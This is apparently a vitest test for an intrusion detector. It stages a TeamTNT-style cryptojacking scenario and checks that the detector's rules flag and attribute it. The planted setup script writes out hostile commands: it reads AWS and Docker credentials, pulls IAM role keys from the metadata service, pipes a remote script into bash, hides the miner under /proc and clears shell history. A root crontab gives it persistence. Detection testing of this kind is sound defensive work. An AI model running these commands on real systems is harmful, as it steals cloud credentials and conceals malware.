import { afterAll, describe, expect, it } from 'vitest';
import { expectStages, Scenario, WALLET } from './harness.js';

/**
 * TeamTNT: in through an exposed Docker API, a setup script that names itself, steals AWS/Docker credentials and
 * role keys from the metadata service, removes rival containers, uninstalls Aliyun's agent, hides its miner under
 * /proc and scans for the next Docker hosts with masscan; the miner runs as "bioset" from a hidden dir.
 */
describe('scenario: TeamTNT', () => {
  const s = new Scenario('teamtnt', '127.0.0.12');
  afterAll(() => s.close());

  it('is one incident with credential access, discovery and impact, attributed to TeamTNT', async () => {
    await s.pool(3333);
    const miner = s.binary('.ICE-unix/bioset');
    s.plant(
      'tmp/.ICE-unix/setup.sh',
      [
        '#!/bin/bash',
        '# TeamTNT -- tntrecht',
        'cat /root/.aws/credentials >> /tmp/.ICE-unix/.c',
        'cat /root/.docker/config.json >> /tmp/.ICE-unix/.c',
        'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ >> /tmp/.ICE-unix/.c',
        "docker ps | grep -E 'pocosow|gakeaws' | awk '{print $1}' | xargs -I % docker rm -f %",
        'curl -s http://update.aegis.aliyun.com/download/uninstall.sh | bash',
        'masscan 172.16.0.0/12 -p2375 --rate=50000 -oL /tmp/.ICE-unix/.r',
        'mount --bind /tmp/.ICE-unix/.e /proc/$(pidof bioset)',
        'history -c',
        '',
      ].join('\n'),
      0o755,
    );
    s.plant(
      'var/spool/cron/crontabs/root',
      `@reboot ${miner}\n* * * * * sh /tmp/.ICE-unix/setup.sh\n`,
      0o600,
    );
    const m = await s.start(miner, ['bioset', '-o', `${s.ip}:3333`, '-u', WALLET, '--donate-level', '1'], {
      MWS_BURN: '1',
      MWS_POOL: `${s.ip}:3333`,
    });
    await s.connected(1);
    const out = await s.scan();

    const { incident, findings } = s.incidentOf(out, 'miner.cmdline', m.pid);
    console.log(
      JSON.stringify(
        findings.map((f) => [f.ruleId, f.severity, f.category, f.entity]),
        null,
        0,
      ),
      incident.stages,
    );
    const rules = findings.map((f) => f.ruleId);
    expect(rules).toEqual(
      expect.arrayContaining([
        'cred.credential-files',
        'cred.metadata-role-credentials',
        'competitor.docker-kill',
        'evasion.security-agent-tamper',
        'evasion.proc-mount-hide',
        'discovery.mass-scanner',
        'evasion.history-cleared',
      ]),
    );
    expectStages(incident, [
      'execution',
      'persistence',
      'defense-evasion',
      'credential-access',
      'discovery',
      'impact',
    ]);
    expect(incident.severity).toBe('critical');
    expect(incident.attribution[0]?.group).toBe('TeamTNT');
    expect(incident.attribution[0]?.indicators).toEqual(
      expect.arrayContaining([
        'TeamTNT name in scripts',
        'masscan/zgrab/pnscan scanning',
        'cloud credential theft',
      ]),
    );
  });
});
